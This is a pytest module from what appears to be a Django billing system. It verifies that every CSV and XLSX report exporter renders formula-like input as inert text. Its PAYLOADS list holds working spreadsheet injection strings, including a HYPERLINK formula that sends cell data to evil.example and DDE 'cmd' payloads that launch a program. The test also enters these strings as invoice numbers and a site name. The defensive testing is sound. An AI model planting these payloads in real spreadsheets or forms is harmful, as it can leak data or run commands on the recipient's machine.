"""Spreadsheet formula injection (issue 15, point 13): no exported cell ever runs as a formula.

Every exporter of every app is found by subclass (after each installed app's ``exporters`` module is imported),
so a new report is checked without anyone remembering to add it here: it only needs a line in ``BUILD`` (its
parameters and scope), and ``test_every_exporter_is_checked`` fails until it has one. Each is rendered with a
hostile value in every text cell (title, column title, a row, totals, notes) and negative numbers in its number
columns; the CSV (csv.reader) and the XLSX (openpyxl) must give every cell back inert: no formula cell, no text
starting with = + - @ tab or CR (numbers the report computed stay numbers, so -5.00 is fine).

The real ways in are checked too: an invoice number typed by a district's finance officer on the payment page and
a site name, in the province-wide monthly report downloaded by the province's finance officer.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.utils import timezone
from django.utils.module_loading import autodiscover_modules

from billing.models import Charge
from billing.scope import BillingScope
from districts.models import Province, Site, Staff
from foundation.exporters import FORMULA_STARTS, Column, Exporter, TableExporter
from tests.factories.billing import bill, charge_of, udon_lines

# = + - @ (and tab, CR), formulas that do harm, and numbers typed as text
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "+66 81 234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-0042",
    "=1",
]
NUMBERS = {"money": Decimal("-1250.00"), "int": -3, "km": Decimal("-12.5")}
A_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _all_exporters() -> list[type[Exporter]]:
    autodiscover_modules("exporters")  # billing, join, national ... and any app that gets one
    found, todo = [], [Exporter]
    while todo:
        cls = todo.pop()
        todo.extend(cls.__subclasses__())
        if "identifier" in vars(cls) and not cls.__module__.startswith("tests."):
            found.append(cls)
    return sorted(found, key=lambda cls: cls.identifier)


def _udon() -> BillingScope:
    return BillingScope(province_id=Province.objects.get(code="41").pk, label="จังหวัดอุดรธานี")


def _attendance(payload: str):
    from join.selectors import AttendanceReport
    from meetings.models import Meeting

    start = timezone.make_aware(datetime.datetime(2019, 1, 15, 9, 0))  # noqa: DTZ001 - the current zone, Bangkok
    meeting = Meeting(title=payload, start=start, end=start + datetime.timedelta(hours=1))
    return AttendanceReport(meeting=meeting, sites=[], guests=[payload], agencies=[])


# identifier -> (params, scope) for a payload
BUILD = {
    "monthly": lambda payload: ({"month": "2019-01-01"}, _udon()),
    "fiscal_year": lambda payload: ({"fy": 2562}, _udon()),
    "travel_savings": lambda payload: ({"fy": 2562}, _udon()),
    "national": lambda payload: ({"fy": 2562}, None),
    "attendance": lambda payload: ({}, _attendance(payload)),
}
EXPORTERS = _all_exporters()


def hostile(exporter_class: type[TableExporter], payload: str) -> type[TableExporter]:
    """The exporter with ``payload`` in every text cell it writes and negative numbers in its number columns."""

    class Hostile(exporter_class):
        def title_lines(self):
            return [payload, *super().title_lines()]

        def columns(self):
            first, *rest = super().columns()
            return [Column(payload, first.kind, first.width), *rest]

        def _hostile_row(self):
            return [NUMBERS.get(column.kind, payload) for column in self.columns()]

        def rows(self):
            yield from super().rows()
            yield self._hostile_row()

        def footer_rows(self):
            return [*super().footer_rows(), self._hostile_row()]

        def notes(self):
            return [*super().notes(), payload]

    Hostile.__name__ = Hostile.__qualname__ = f"Hostile{exporter_class.__name__}"
    return Hostile


def inert_text(text: str) -> bool:
    return not text.startswith(FORMULA_STARTS) or bool(A_NUMBER.fullmatch(text))


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_inert(file_format: str, content: bytes, payload: str) -> None:
    if file_format == "csv":
        cells = csv_cells(content)
        assert [cell for cell in cells if not inert_text(cell)] == []
        written = cells
    else:
        cells = xlsx_cells(content)
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert [cell.value for cell in cells if isinstance(cell.value, str) and not inert_text(cell.value)] == []
        written = [cell.value for cell in cells if isinstance(cell.value, str)]
    # the text is kept, shown as typed behind the apostrophe (openpyxl gives a CR back as a line feed)
    shown = "'" + payload.replace("\r", "\n")
    assert sum(value.replace("\r", "\n") == shown for value in written) >= 3, written


@pytest.mark.unit
def test_every_exporter_is_checked():
    identifiers = [cls.identifier for cls in EXPORTERS]
    assert {"monthly", "fiscal_year", "travel_savings", "national", "attendance"} <= set(identifiers)
    assert sorted(identifiers) == sorted(BUILD), "a new exporter: add its parameters and scope to BUILD"
    assert all(issubclass(cls, TableExporter) for cls in EXPORTERS), "an exporter that writes its own cells"


@pytest.mark.integration
@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
@pytest.mark.parametrize("exporter_class", EXPORTERS, ids=lambda cls: cls.identifier)
def test_a_cell_starting_with_a_formula_sign_comes_back_inert(exporter_class, payload, file_format):
    params, scope = BUILD[exporter_class.identifier](payload)
    exporter = hostile(exporter_class, payload)(params=params, scope=scope)
    _, _, content = exporter.render(file_format)
    assert_inert(file_format, content, payload)


@pytest.mark.integration
@pytest.mark.django_db
def test_an_invoice_number_and_a_site_name_typed_by_people_are_text_in_the_province_wide_report(client):
    """District finance officers record invoice numbers on the payment page; the province downloads the month."""
    from tests.factories.districts import StaffFactory

    udon_lines()
    january = datetime.date(2019, 1, 1)
    bill(january)
    districts = ["4101", "4102", "4103", "4104"]
    typed = [*PAYLOADS[:3], "-0042"]
    for code, invoice in zip(districts, typed, strict=True):
        staff = StaffFactory.create(role=Staff.Role.FINANCE, site_code=code)
        client.force_login(staff.user)
        response = client.post(
            f"/billing/charges/{charge_of(code, january).pk}/pay/", {"invoice_number": invoice, "paid_on": "05/02/2562"}
        )
        assert response.status_code == 302, response.content.decode()
    Site.objects.filter(district__code="4105").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    assert Charge.objects.filter(month=january, status="paid").count() == 4

    client.force_login(StaffFactory.create(role=Staff.Role.FINANCE, site_code="41").user)
    for file_format in ("csv", "xlsx"):
        content = client.get(f"/billing/reports/monthly.{file_format}?month=2562-01").content
        if file_format == "csv":
            cells = csv_cells(content)
            assert [cell for cell in cells if not inert_text(cell)] == []
        else:
            xlsx = xlsx_cells(content)
            assert [cell.coordinate for cell in xlsx if cell.data_type == "f"] == []
            cells = [cell.value for cell in xlsx if isinstance(cell.value, str)]
            assert [cell for cell in cells if not inert_text(cell)] == []
        for text in [*typed, "@SUM(1+1)*cmd|' /C calc'!A0"]:
            assert "'" + text in cells
